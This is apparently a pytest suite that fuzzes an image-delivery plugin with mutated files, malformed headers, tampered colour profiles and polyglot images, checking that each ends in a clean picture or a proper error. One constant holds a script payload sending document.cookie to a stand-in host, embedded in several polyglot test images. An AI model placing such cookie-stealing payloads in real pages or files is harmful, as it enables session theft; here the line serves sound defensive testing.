"""Whatever bytes arrive, the outcome is a picture or a fault of the tree."""

from __future__ import annotations

import random
import struct
import time
import warnings
import zipfile
import zlib
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image, ImageCms

from secure_delivery.plugin import Corrupt, SecureDeliveryError, Unsupported
from secure_delivery.plugin.testing import MemoryFile, content
from secure_delivery_images.headers import announced, format_of, png_exif
from secure_delivery_images.metadata import PROFILES
from secure_delivery_images.strip import stripped

FILES = Path(__file__).parent / "files"
FORMATS = ["JPEG", "PNG", "GIF", "WEBP", "TIFF", "BMP", "AVIF"]
CHAINS: list[list[Any]] = [
    [("resize", {"w": "16"})],
    [("resize", {"w": "300", "h": "10", "f": "crop"}), ("rotate", {"d": "33", "b": "none"})],
    ["no_metadata"],
    ["compress"],
    [("compress", {"metadata": "true"})],
    [("output", {"f": "webp", "q": "input"})],
    [("output", {"f": "jpg", "o": "input"})],
    [("quality", {"v": "30"})],
    [("crop", {"d": ("3", "3", "20", "20")}), "imagesize"],
    [("watermark", {"f": "AbCdEfGhIjKlMnOpQrSt", "s": "30"}), ("output", {"f": "gif"})],
    [("animate", {"w": "40"})],
    [("pjpg", {"metadata": "true"})],
    [("auto_image", {"format": "jpeg"})],
]


def _seeds(saved: Any, quadrants: Any) -> list[MemoryFile]:
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010E] = "words"
    images = [saved(quadrants(), form, **({} if form in ("GIF", "BMP") else {"exif": exif})) for form in FORMATS]
    images += [saved(quadrants(64, 48, "P"), form) for form in ("PNG", "GIF", "BMP", "TIFF")]
    images += [saved(quadrants(64, 48, "CMYK"), form) for form in ("JPEG", "TIFF")]
    images += [saved(quadrants(), "JPEG", progressive=True), saved(quadrants(), "TIFF", compression="tiff_lzw")]
    images += [MemoryFile(file.read_bytes(), "image/heic", file.name) for file in sorted(FILES.glob("[pst]*.heic"))]
    for form in ("GIF", "WEBP", "PNG", "TIFF"):
        more = [quadrants().rotate(90), quadrants().rotate(180)]
        images.append(saved(quadrants(), form, save_all=True, append_images=more))
    return images


def _mutated(data: bytes, chance: random.Random) -> bytes:
    """One of the usual accidents: bits, numbers at their limits, pieces cut, doubled or moved; more often near the start."""
    damaged = bytearray(data)
    for _ in range(chance.choice((1, 1, 2, 4, 16))):
        at = int(len(damaged) * chance.random() ** chance.choice((1, 3)))
        match chance.randrange(6):
            case 0:
                damaged[at : at + 1] = bytes([chance.randrange(256)])
            case 1:
                damaged[at : at + 4] = chance.choice(
                    (b"\xff\xff\xff\xff", b"\0\0\0\0", b"\x7f\xff\xff\xff", b"\xff\xff\xff\x7f", b"\0\0\1\0")
                )
            case 2:
                del damaged[at : at + chance.randrange(1, 40)]
            case 3:
                damaged[at:at] = damaged[at : at + chance.randrange(1, 200)]
            case 4:
                damaged[at:at] = chance.randbytes(chance.randrange(1, 20))
            case 5:
                del damaged[len(damaged) - chance.randrange(1, 64) :]
        if not damaged:
            break
    return bytes(damaged)


def test_mutated_pictures_end_in_a_result_or_a_fault_of_the_tree(chain: Any, saved: Any, quadrants: Any) -> None:
    """400 damaged files of every kind through every kind of chain; the seed of a failure is in its message."""
    seeds = _seeds(saved, quadrants)
    for number in range(400):
        chance = random.Random(number)
        media = seeds[number % len(seeds)]
        data = _mutated(media.data, chance)
        try:
            damaged = MemoryFile(data, media.mimetype, media.filename)
            lent = {"metadata": PROFILES[number % len(PROFILES)], "others": [damaged]}
            result = content(chain(damaged, *CHAINS[number % len(CHAINS)], **lent))
            assert result, f"seed {number}: an empty result"
        except SecureDeliveryError as error:
            assert error.status < 500, f"seed {number}: {error!r}"
            assert error.public.endswith("."), f"seed {number}: {error!r}"
        except Exception as error:
            raise AssertionError(f"seed {number}: {error!r} is no fault of the tree") from error


def test_nobody_hears_pillows_warnings(chain: Any, saved: Any) -> None:
    """Warnings about a stranger's file stay inside, and switches that others set are as they were."""
    exif = Image.Exif()
    exif[0x010E] = "x" * 40
    broken = saved(Image.new("L", (8, 8)), "JPEG", exif=exif).data.replace(b"x" * 40 + b"\0", b"")
    before = list(warnings.filters)
    with warnings.catch_warnings(record=True) as heard:
        warnings.simplefilter("always")
        inside = list(warnings.filters)
        try:
            content(chain(MemoryFile(broken), ("compress", {"metadata": "true"}), "flip"))
        except SecureDeliveryError:
            pass
        assert warnings.filters == inside
    assert not heard
    assert warnings.filters == before


@given(st.binary(max_size=300), st.sampled_from(["WEBP", "AVIF"]))
def test_reading_a_header_never_raises(tail: bytes, form: str) -> None:
    """Any bytes have a size or none."""
    start = b"RIFF\x20\0\0\0WEBPVP8X" if form == "WEBP" else b"\0\0\0\x18ftypavif\0\0\0\0avifmif1"
    size = announced(BytesIO(start + tail), form)
    assert size is None or min(size) >= 0
    assert format_of(start + tail) in (form, None)
    assert isinstance(png_exif(BytesIO(b"\x89PNG\r\n\x1a\n" + tail)), bytes)


@given(st.binary(max_size=80))
def test_any_start_of_a_file_has_a_format_or_none(head: bytes) -> None:
    """Telling formats apart works on any bytes, none at all included."""
    assert format_of(head) in (None, *FORMATS, "HEIC")


@settings(deadline=None)
@given(st.sampled_from(["JPEG", "PNG", "WEBP", "GIF"]), st.binary(max_size=200), st.integers(0, 200))
def test_stripping_any_bytes_is_refused_or_shorter(form: str, noise: bytes, at: int) -> None:
    """Taking metadata out of rubbish ends in `ValueError` or in something no longer than it was."""
    out = BytesIO()
    Image.new("RGB", (6, 5), (9, 99, 199)).save(out, form)
    data = out.getvalue()[:at] + noise + out.getvalue()[at:]
    try:
        result = stripped(data, form)
    except ValueError:
        return
    assert result is None if form == "GIF" else result is not None and len(result) <= len(data) + 12


@pytest.mark.parametrize("form", ["WEBP", "AVIF"])
def test_a_header_that_leads_in_circles_ends(form: str) -> None:
    """Boxes of no length, of all length, and a hundred thousand of them are read in no time."""
    start = time.process_time()
    brand = b"\0\0\0\x18ftypavif\0\0\0\0avifmif1"
    for body in (b"\0\0\0\x08ipco" * 100_000, b"\0\0\0\0meta" * 1000, b"\0\0\0\1meta" + b"\xff" * 8, b"\0\0\0\7ipco" * 1000):
        announced(BytesIO(brand + body), form)
    assert (time.process_time() - start) * 1000 < 1000


SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"


def _polyglots(saved: Any, quadrants: Any) -> dict[str, bytes]:
    """Pictures that are something else as well, to whoever looks only for that."""
    jpeg, png, gif, webp, bmp = (saved(quadrants(), form).data for form in ("JPEG", "PNG", "GIF", "WEBP", "BMP"))
    archive = BytesIO()
    with zipfile.ZipFile(archive, "w") as writer:
        writer.writestr("index.html", SCRIPT)
    comment = b"\xff\xfe" + struct.pack(">H", 2 + len(SCRIPT)) + SCRIPT
    return {
        "page behind a JPEG": jpeg + SCRIPT,
        "page in a comment of a JPEG": jpeg[:2] + comment + jpeg[2:],
        "archive behind a JPEG": jpeg + archive.getvalue(),
        "page behind a PNG": png + SCRIPT,
        "page behind a GIF": gif + SCRIPT,
        "page in a comment of a GIF": gif[:-1] + b"!\xfe" + bytes([len(SCRIPT)]) + SCRIPT + b"\0;",
        "page behind a WebP": webp + SCRIPT,
        "page behind a BMP": bmp + SCRIPT,
        "document behind a JPEG": jpeg + b"%PDF-1.4 " + SCRIPT,
    }


@pytest.mark.parametrize("task", [("resize", {"w": "32"}), "no_metadata", "compress", ("output", {"f": "png"}), "auto_image"])
def test_a_polyglot_comes_out_as_a_picture_and_nothing_else(
    task: Any, chain: Any, saved: Any, opened: Any, quadrants: Any
) -> None:
    """Whatever else a file is, it is not in the result: content that a browser could run does not survive."""
    for name, data in _polyglots(saved, quadrants).items():
        result = content(chain(MemoryFile(data), task))
        assert b"script" not in result, name
        assert b"%PDF" not in result, name
        assert b"PK\x03\x04" not in result, name
        assert opened(MemoryFile(result)).size in ((64, 48), (32, 24)), name


@pytest.mark.parametrize(
    "start", [b"%PDF-1.7\n", b"<svg xmlns='http://www.w3.org/2000/svg'>", b"PK\x03\x04", b"#!/bin/sh\n", b"\0"]
)
def test_a_picture_behind_something_else_is_no_picture(start: bytes, chain: Any, saved: Any, quadrants: Any) -> None:
    """The first bytes decide; nobody searches a file for a picture. (To a reader of drawings it is a damaged one.)"""
    with pytest.raises((Unsupported, Corrupt)):
        chain(MemoryFile(start + saved(quadrants(), "JPEG").data), "flip")


def test_an_animation_that_promises_more_than_it_holds_ends(chain: Any, saved: Any, opened: Any, quadrants: Any) -> None:
    """Four billion frames announced, two there; frames without end; times without end."""
    out = BytesIO()
    quadrants().save(out, "PNG", save_all=True, append_images=[quadrants().rotate(180)], duration=100)
    data = bytearray(out.getvalue())
    at = data.index(b"acTL") + 4
    data[at : at + 4] = b"\xff\xff\xff\xff"
    data[at + 8 : at + 12] = struct.pack(">I", zlib.crc32(data[at - 4 : at + 8]))
    for task in (("output", {"f": "gif"}), ("output", {"f": "jpg"}), "no_metadata"):
        try:
            assert opened(chain(MemoryFile(bytes(data)), "flip", task)).size == (64, 48)
        except SecureDeliveryError:
            continue


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP", "TIFF", "AVIF"])
def test_a_profile_that_was_tampered_with_never_harms(form: str, chain: Any, saved: Any) -> None:
    """Offsets beyond the end, counts without end, another colour space, half of it: a picture comes out, or a fault."""
    plain = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes().replace(b"s\0R\0G\0B", b"x\0R\0G\0B"))
    for number in range(60):
        chance = random.Random(number)
        profile = bytearray(plain)
        for _ in range(chance.choice((1, 2, 8))):
            at = chance.choice((16, 20, 128, 132, chance.randrange(len(profile) - 4)))
            profile[at : at + 4] = chance.choice((b"\xff\xff\xff\xff", b"\0\0\0\0", b"CMYK", b"\x7f\xff\xff\xff"))
        for mode in ("RGB", "L"):
            media = saved(Image.new(mode, (8, 8), 90), form, icc_profile=bytes(profile[: chance.choice((len(profile), 200))]))
            for task in ("flip", ("output", {"f": "bmp"}), ("watermark", {"f": "AbCdEfGhIjKlMnOpQrSt"})):
                try:
                    content(chain(media, task, others=[media]))
                except SecureDeliveryError:
                    continue
